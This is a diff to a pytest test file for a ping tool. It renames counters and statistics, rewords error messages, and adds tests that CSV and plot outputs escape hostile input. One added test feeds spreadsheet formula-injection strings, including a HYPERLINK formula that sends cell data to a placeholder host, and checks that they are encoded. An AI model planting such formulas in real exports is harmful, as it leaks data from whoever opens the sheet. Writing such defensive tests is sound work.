@@ -18,12 +18,15 @@ from xml.etree import ElementTree
 import pytest
 from pinging import Ping, serving
 
-from tsserv.ping.conversation import Result
-from tsserv.ping.figures import Distribution, Tally
+from tsserv.ping.address import HostPort
+from tsserv.ping.counts import Counts
+from tsserv.ping.distribution import Distribution
 from tsserv.ping.offset import Bounds, Offset
+from tsserv.ping.options import make_parser, parse
 from tsserv.ping.outputs.base import Summary
 from tsserv.ping.outputs.summary import histogram_lines, offset_text, summary_lines
 from tsserv.ping.outputs.text import Text
+from tsserv.ping.result import Result
 from tsserv.ping.verdict import Thresholds, exit_status, level
 from tsserv.stamp import Stamp
 
@@ -53,13 +56,13 @@ def test_the_text_is_a_line_for_each_answer_and_a_summary(port: int, ping: Ping)
     done = ping(f"127.0.0.1:{port}", *QUICK, "--histogram")
     number = r"\d+\.\d{3}"
     line = rf"seq=%d bytes=84 rtt={number} ms offset=[+-]{number} ms \+/- {number} ms time=\d+\.\d{{6}}\n"
-    figures = "/".join([number] * 7)
+    statistics = "/".join([number] * 7)
     expected = (
         rf"connected in {number} ms: 127\.0\.0\.1:\d+ -> 127\.0\.0\.1:{port}\n"
         + "".join(line % seq for seq in (1, 2, 3))
         + rf"\n--- 127\.0\.0\.1:{port} ---\n"
         + r"3 sent, 3 answered, 0 lost \(0 %\), 0\.\d s\n"
-        + rf"rtt min/median/mean/p90/p99/max/stddev = {figures} ms, jitter {number} ms\n"
+        + rf"rtt min/median/mean/p90/p99/max/stddev = {statistics} ms, jitter {number} ms\n"
         + rf"offset [+-]{number} ms \+/- {number} ms: no difference can be seen\n"
         + rf"\n(?:(?:>=|  ) +{number} ms +\d+(?: #+)?\n)+"
     )
@@ -71,11 +74,11 @@ def test_what_a_stamp_does_to_a_terminal_is_only_shown(ping: Ping) -> None:
     with serving(answer) as port:
         done = ping(f"127.0.0.1:{port}", "--count", 1)
     assert " time=\\x1b[2J \u00e4\n" in done.out
-    assert "\noffset unknown: the stamps are not of the formats ctime, iso8601 and unix\n" in done.out
+    assert "\noffset unknown: the format of the stamps is none of ctime, iso8601 and unix\n" in done.out
 
 
 def test_the_text_says_what_is_wrong_with_an_answer(capsys: pytest.CaptureFixture[str]) -> None:
-    text = Text(timeout=1, reconnect=False, thresholds=Thresholds(), flood_size=None, histogram=False)
+    text = Text(parse(make_parser(), ["host", "--timeout", "1"]))
     answered = Result(7, "answered", 0, rtt=2_000_000, size=91, stamps=1, stamp=b"[now] ")
     text.result(answered)
     text.result(answered._replace(stamps=0))
@@ -105,6 +108,42 @@ def test_csv_has_a_row_for_each_probe(port: int, tmp_path: Path, ping: Ping) -> 
             "type": "probe",
             **row,
         }
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("http://h/?"&A1)', "%3DHYPERLINK%28%22http://h/%3F%22%26A1%29"),
+        ("@SUM(1)", "%40SUM%281%29"),
+        ("+1", "%2B1"),
+        ("-1", "%2D1"),
+        ("\uff1d1", "%EF%BC%9D1"),  # FULLWIDTH EQUALS SIGN
+        ("x;=1", "x%3B%3D1"),
+        (" =1", "%20%3D1"),
+        ("Mon Nov 23 08:22:38 2026", "Mon Nov 23 08:22:38 2026"),
+        ("2026-11-23T08:22:38.250000+00:00", "2026-11-23T08:22:38.250000+00:00"),
+        ("1795422158.250000", "1795422158.250000"),
+    ],
+)
+def test_no_stamp_is_a_formula_in_the_csv(text: str, cell: str, tmp_path: Path, ping: Ping) -> None:
+    def serve(client: socket.socket) -> None:
+        while data := client.recv(65536):
+            client.sendall(f"[{text}] ".encode() + data)
+
+    path = tmp_path / "probes.csv"
+    with serving(serve) as port:
+        done = ping(f"127.0.0.1:{port}", "--count", 1, "--csv", path, "--json")
+    with path.open(newline="") as file:
+        [row] = csv.DictReader(file)
+    assert row["server_time"] == cell
+    assert done.probes[0]["server_time"] == text
+
+
+def test_a_target_is_no_formula_in_a_plot(tmp_path: Path, ping: Ping) -> None:
+    path = tmp_path / "run.svg"
+    done = ping("$x^$\udcff", "--plot", path, "--nagios")
+    assert (done.status, done.err) == (2, "")
+    assert ElementTree.parse(path).getroot() is not None
 
 
 @pytest.mark.parametrize("suffix", ["svg", "png"])
@@ -210,7 +249,7 @@ def test_thresholds_decide_the_exit_status(
         (["h", "--insecure"], "--insecure: only with --tls"),
         (
             ["h", "--tls", "--cafile", "x", "--insecure"],
-            "--cafile: not with --insecure, which checks nothing",
+            "--cafile: not with --insecure, which verifies nothing",
         ),
         (["h", "--tls", "--cafile", "nowhere"], "--cafile: cannot read 'nowhere': No such file or directory"),
         (["h", "--tls", "--cafile", os.devnull], f"--cafile: cannot read '{os.devnull}': "),
@@ -221,7 +260,7 @@ def test_thresholds_decide_the_exit_status(
         (["h", "--flood", "--count", "2"], "--count: not with --flood"),
         (["h", "--flood", "--csv", "x"], "--csv: not with --flood"),
         (["h", "--warn", "3", "--crit", "2.5"], "--warn: 3 is more than --crit, 2.5"),
-        (["h", "--plot", "x.gif"], "--plot: 'x.gif' ends neither in .svg nor in .png"),
+        (["h", "--plot", "x.gif"], "--plot: 'x.gif' does not end in .svg or .png"),
         (["h", "--plot", "nowhere/x.svg"], "cannot write nowhere/x.svg: No such file or directory"),
         (["h", "--csv", "."], "cannot write .: Is a directory"),
     ],
@@ -245,14 +284,11 @@ def test_bad_options_get_one_line(
 def test_a_plot_needs_matplotlib(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, port: int, ping: Ping
 ) -> None:
-    monkeypatch.delitem(sys.modules, "tsserv.ping.outputs.plot", raising=False)
     monkeypatch.setitem(sys.modules, "matplotlib.figure", None)
     done = ping(f"127.0.0.1:{port}", "--plot", tmp_path / "run.svg")
     assert list(tmp_path.iterdir()) == []
     assert (done.status, done.out) == (2, "")
-    assert done.err.startswith(
-        "tsserv-ping: --plot: needs matplotlib, which pip install 'tsserv[plot]' brings "
-    )
+    assert done.err.startswith("tsserv-ping: --plot: needs matplotlib: pip install 'tsserv[plot]' ")
 
 
 @pytest.mark.skipif(not Path("/dev/full").exists(), reason="this system has no /dev/full")
@@ -263,13 +299,13 @@ def test_a_full_disk_loses_nothing_but_the_file(
     assert done.status == 1
     assert "\n1 sent, 1 answered, " in done.out
     assert done.err == (
-        f"tsserv-ping: 127.0.0.1:{port}: cannot write all of it: {os.strerror(errno.ENOSPC)}\n"
+        f"tsserv-ping: 127.0.0.1:{port}: cannot write the output: {os.strerror(errno.ENOSPC)}\n"
     )
     (tmp_path / "full.png").symlink_to("/dev/full")
     done = ping(f"127.0.0.1:{port}", *QUICK, "--plot", tmp_path / "full.png")
     assert done.status == 1
     assert "\n3 sent, 3 answered, " in done.out
-    assert f": cannot write all of it: {os.strerror(errno.ENOSPC)}\n" in done.err
+    assert f": cannot write the output: {os.strerror(errno.ENOSPC)}\n" in done.err
 
 
 def test_help_imports_neither_twisted_nor_matplotlib() -> None:
@@ -280,7 +316,7 @@ def test_help_imports_neither_twisted_nor_matplotlib() -> None:
     )
     done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert done.stdout.endswith("\nset()\n")
-    assert all(len(line) <= 81 for line in done.stdout.splitlines())
+    assert all(len(line) <= 80 for line in done.stdout.splitlines())
 
 
 def test_the_version(ping: Ping) -> None:
@@ -301,16 +337,16 @@ def test_a_manual_page_and_completions_are_installed(ping: Ping) -> None:
     assert ".SH EXIT STATUS\n" in installed["tsserv-ping.1"].read_text()
 
 
-def summary(tally: Tally, offset: Offset | None = None) -> Summary:
+def summary(counts: Counts, offset: Offset | None = None) -> Summary:
     """Return the summary of a run of a second."""
-    return Summary("host:1", None, tally, offset or Offset(), 1.0, "", "ok")
+    return Summary(HostPort("host", 1), None, counts, offset or Offset(), 1.0, "", "ok")
 
 
 def test_the_summary_has_every_count_that_is_not_zero() -> None:
-    tally = Tally(
+    counts = Counts(
         sent=12, answered=4, altered=2, lost=5, pending=1, late=3, merged=6, split=7, doubled=8, stray=9
     )
-    lines = summary_lines(summary(tally), histogram=True)
+    lines = summary_lines(summary(counts), histogram=True)
     assert lines[2] == "12 sent, 4 answered, 5 lost (41.7 %), 1.0 s"
     assert [line.partition(":")[0] for line in lines[3:] if line] == [
         "2 altered",
@@ -330,9 +366,9 @@ def test_the_summary_has_every_count_that_is_not_zero() -> None:
 def test_the_summary_says_what_the_offset_means(bounds: tuple[int, int], meaning: str) -> None:
     offset = Offset()
     offset.best = Bounds(*bounds)
-    tally = Tally(answered=1)
-    tally.rtts.add(1000)
-    assert summary_lines(summary(tally, offset), histogram=False)[-1].endswith(meaning)
+    counts = Counts(answered=1)
+    counts.rtts.add(1000)
+    assert summary_lines(summary(counts, offset), histogram=False)[-1].endswith(meaning)
 
 
 @pytest.mark.parametrize(
@@ -348,21 +384,21 @@ def test_an_offset_has_as_many_digits_as_its_uncertainty_is_worth(low: int, high
     assert offset_text(Bounds(low, high)) == text
 
 
-def test_figures_of_a_distribution() -> None:
+def test_statistics_of_a_distribution() -> None:
     times = Distribution()
-    assert times.figures() == {}
+    assert times.statistics() == {}
     for time in range(100, 0, -1):
         times.add(time * 1_000_000)
-    figures = times.figures()
-    assert figures.pop("stddev") == pytest.approx(28.866, abs=0.001)
-    assert figures == {"min": 1, "median": 50, "mean": 50.5, "p90": 90, "p99": 99, "max": 100, "jitter": 1}
+    statistics = times.statistics()
+    assert statistics.pop("stddev") == pytest.approx(28.866, abs=0.001)
+    assert statistics == {"min": 1, "median": 50, "mean": 50.5, "p90": 90, "p99": 99, "max": 100, "jitter": 1}
     assert len(times) == 100
 
 
-def test_one_time_has_figures_too() -> None:
+def test_one_time_has_statistics_too() -> None:
     times = Distribution()
     times.add(1499)
-    assert set(times.figures().values()) == {0.001, 0}
+    assert set(times.statistics().values()) == {0.001, 0}
 
 
 def test_the_histogram_counts_everything_once() -> None:
@@ -378,24 +414,24 @@ def test_the_histogram_counts_everything_once() -> None:
 
 
 @pytest.mark.parametrize(
-    ("tally", "expected"),
+    ("counts", "expected"),
     [
-        (Tally(answered=1), ("ok", 0)),
-        (Tally(answered=1, pending=1, merged=1, split=1), ("ok", 0)),
-        (Tally(answered=1, lost=1), ("warning", 1)),
-        (Tally(answered=1, altered=1), ("warning", 1)),
-        (Tally(answered=1, late=1), ("warning", 1)),
-        (Tally(answered=1, doubled=1), ("warning", 1)),
-        (Tally(answered=1, stray=1), ("warning", 1)),
-        (Tally(pending=1), ("critical", 1)),
-        (Tally(lost=1), ("critical", 1)),
+        (Counts(answered=1), ("ok", 0)),
+        (Counts(answered=1, pending=1, merged=1, split=1), ("ok", 0)),
+        (Counts(answered=1, lost=1), ("warning", 1)),
+        (Counts(answered=1, altered=1), ("warning", 1)),
+        (Counts(answered=1, late=1), ("warning", 1)),
+        (Counts(answered=1, doubled=1), ("warning", 1)),
+        (Counts(answered=1, stray=1), ("warning", 1)),
+        (Counts(pending=1), ("critical", 1)),
+        (Counts(lost=1), ("critical", 1)),
     ],
 )
-def test_levels_and_statuses(tally: Tally, expected: tuple[str, int]) -> None:
-    if tally.answered:
-        tally.rtts.add(1000)
-    verdict = level(tally, Thresholds(), error=False)
-    assert (verdict, exit_status(verdict, tally)) == expected
+def test_levels_and_statuses(counts: Counts, expected: tuple[str, int]) -> None:
+    if counts.answered:
+        counts.rtts.add(1000)
+    verdict = level(counts, Thresholds(), error=False)
+    assert (verdict, exit_status(verdict, counts)) == expected
 
 
 def test_the_json_is_one_object_a_line(port: int, ping: Ping) -> None:
